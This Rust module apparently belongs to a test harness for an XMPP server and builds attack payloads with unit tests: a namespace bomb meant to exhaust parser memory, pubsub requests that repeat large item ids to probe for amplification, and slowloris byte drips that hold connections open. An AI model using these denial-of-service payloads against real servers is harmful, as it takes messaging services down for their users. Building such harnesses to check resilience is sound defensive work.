//! The bytes the attackers send: pure builders, unit-tested.

use std::fmt::Write as _;

use crate::xmpp::scan;

/// Letters in the namespace bomb's URI (issue 8: "64 KiB of letters").
pub const BOMB_URI_LETTERS: usize = 64 * 1024;
/// Empty children in the namespace bomb; each inherits the 64 KiB namespace.
pub const BOMB_CHILDREN: usize = 16_000;

/// The stream header a client opens with (RFC 6120 4.2).
pub fn stream_header(domain: &str) -> String {
    format!(
        "<?xml version='1.0'?><stream:stream xmlns='jabber:client' \
         xmlns:stream='http://etherx.jabber.org/streams' to='{}' version='1.0' \
         xml:lang='en'>",
        scan::escape(domain)
    )
}

/// Issue 8's namespace bomb, sent right after the stream header:
/// `<x xmlns='urn:` + 64 KiB of letters + `'>` + 16,000 `<a/>` + `</x>`. A parser
/// that copies the inherited namespace into every child holds ~1 GiB for these
/// ~130 KB.
pub fn namespace_bomb() -> Vec<u8> {
    let mut out = Vec::with_capacity(BOMB_URI_LETTERS + 4 * BOMB_CHILDREN + 32);
    out.extend_from_slice(b"<x xmlns='urn:");
    out.extend((0..BOMB_URI_LETTERS).map(|i| b'a' + (i % 26) as u8));
    out.extend_from_slice(b"'>");
    for _ in 0..BOMB_CHILDREN {
        out.extend_from_slice(b"<a/>");
    }
    out.extend_from_slice(b"</x>");
    out
}

/// XEP-0077 registration request payload (the `<query/>` of an iq set).
pub fn register_query(user: &str, password: &str) -> String {
    format!(
        "<query xmlns='jabber:iq:register'><username>{}</username>\
         <password>{}</password></query>",
        scan::escape(user),
        scan::escape(password)
    )
}

/// XEP-0060 6.5.8 (retrieve specific items) naming `count` ids: the `known` ids
/// (items that exist, the large ones) over and over, every fourth one an id that
/// does not exist. Many duplicates on purpose: a server must not fetch or send
/// the same item once per mention.
pub fn items_by_id(node: &str, known: &[String], count: usize) -> String {
    let mut out = format!(
        "<pubsub xmlns='http://jabber.org/protocol/pubsub'><items node='{}'>",
        scan::escape(node)
    );
    for i in 0..count {
        let id = if known.is_empty() || i % 4 == 3 {
            format!("absent-{i}")
        } else {
            known[i % known.len()].clone()
        };
        out.push_str("<item id='");
        out.push_str(&scan::escape(&id));
        out.push_str("'/>");
    }
    out.push_str("</items></pubsub>");
    out
}

/// XEP-0060 6.5.7: the newest `max` items of `node` (to learn which ids exist).
pub fn newest_items(node: &str, max: u32) -> String {
    format!(
        "<pubsub xmlns='http://jabber.org/protocol/pubsub'><items node='{}' max_items='{max}'/></pubsub>",
        scan::escape(node)
    )
}

/// The ids of the `<item id='...'>` elements inside `elem`.
pub fn item_ids(elem: &[u8]) -> Vec<String> {
    let mut ids = Vec::new();
    let mut from = 0;
    while let Some(i) = elem[from..].windows(5).position(|w| w == b"<item") {
        let at = from + i;
        from = at + 5;
        // `<item ` and not `<items`.
        if matches!(elem.get(from), Some(b' ' | b'\t' | b'\n' | b'\r'))
            && let Some(id) = scan::attr(&elem[at..], "id")
        {
            ids.push(id);
        }
    }
    ids
}

/// Byte `i` of what a slowloris connection drips: `prefix`, then a text node that
/// never ends (the start of a stanza whose body grows one letter at a time).
pub fn drip_byte(prefix: &[u8], i: usize) -> u8 {
    prefix.get(i).copied().unwrap_or(b'a')
}

/// What a slowloris connection drips, one byte at a time: either the stream header
/// itself (held before the header is complete), or, after a header sent at once,
/// an unfinished stanza (held before authentication).
pub fn slowloris_prefix(domain: &str, header_first: bool) -> (Vec<u8>, Vec<u8>) {
    let stanza = b"<message><body>".to_vec();
    if header_first {
        (stream_header(domain).into_bytes(), stanza)
    } else {
        let mut drip = stream_header(domain).into_bytes();
        drip.extend_from_slice(&stanza);
        (Vec::new(), drip)
    }
}

/// A name nobody has: `prefix` + 16 random hex digits.
pub fn random_name(prefix: &str) -> String {
    let mut raw = [0u8; 8];
    getrandom::fill(&mut raw).expect("OS random source");
    raw.iter().fold(prefix.to_owned(), |mut s, b| {
        let _ = write!(s, "{b:02x}");
        s
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::xmpp::scan::{Event, Scanner};

    #[test]
    fn the_bomb_is_the_issue_s_stanza() {
        let b = namespace_bomb();
        assert_eq!(b.len(), 14 + BOMB_URI_LETTERS + 2 + 4 * BOMB_CHILDREN + 4);
        assert!(b.starts_with(b"<x xmlns='urn:abc"));
        assert!(b.ends_with(b"<a/><a/></x>"));
        let uri = scan::attr(&b, "xmlns").unwrap();
        assert_eq!(uri.len(), 4 + BOMB_URI_LETTERS);
        assert!(uri[4..].bytes().all(|c| c.is_ascii_lowercase()));
        // One well-formed top-level element after a header.
        let mut sc = Scanner::new(1 << 20);
        sc.feed(stream_header("x.test").as_bytes());
        sc.feed(&b);
        assert!(matches!(sc.next_event(), Ok(Some(Event::StreamOpen(_)))));
        match sc.next_event() {
            Ok(Some(Event::Element(e))) => assert_eq!(e.len(), b.len()),
            other => panic!("{:?}", other.map(|o| o.is_some())),
        }
    }

    #[test]
    fn items_by_id_repeats_known_ids_and_adds_absent_ones() {
        let known = vec!["1-5".to_owned(), "2-9".to_owned()];
        let p = items_by_id("n&1", &known, 500);
        assert!(p.contains("node='n&amp;1'"));
        let ids = item_ids(p.as_bytes());
        assert_eq!(ids.len(), 500);
        assert_eq!(ids.iter().filter(|i| i.starts_with("absent-")).count(), 125);
        assert_eq!(ids.iter().filter(|i| *i == "1-5").count(), 250);
        let none = items_by_id("n", &[], 3);
        assert_eq!(
            item_ids(none.as_bytes()),
            ["absent-0", "absent-1", "absent-2"]
        );
    }

    #[test]
    fn item_ids_skips_the_items_element() {
        let r = b"<iq type='result'><pubsub><items node='n'><item id='a'><x/></item>\
                  <item\nid='b'/></items></pubsub></iq>";
        assert_eq!(item_ids(r), ["a", "b"]);
    }

    #[test]
    fn slowloris_drips_the_prefix_then_letters_forever() {
        let (now, drip) = slowloris_prefix("x.test", true);
        assert!(now.starts_with(b"<?xml"));
        assert_eq!(drip, b"<message><body>");
        let (now, drip) = slowloris_prefix("x.test", false);
        assert!(now.is_empty());
        assert!(drip.starts_with(b"<?xml") && drip.ends_with(b"<message><body>"));
        assert_eq!(drip_byte(b"ab", 0), b'a');
        assert_eq!(drip_byte(b"ab", 1), b'b');
        assert_eq!(drip_byte(b"ab", 7), b'a');
    }

    #[test]
    fn register_query_escapes_and_names_differ() {
        assert_eq!(
            register_query("a<b", "p'w"),
            "<query xmlns='jabber:iq:register'><username>a&lt;b</username>\
             <password>p&apos;w</password></query>"
        );
        let (a, b) = (random_name("r-"), random_name("r-"));
        assert_ne!(a, b);
        assert_eq!(a.len(), 2 + 16);
    }
}
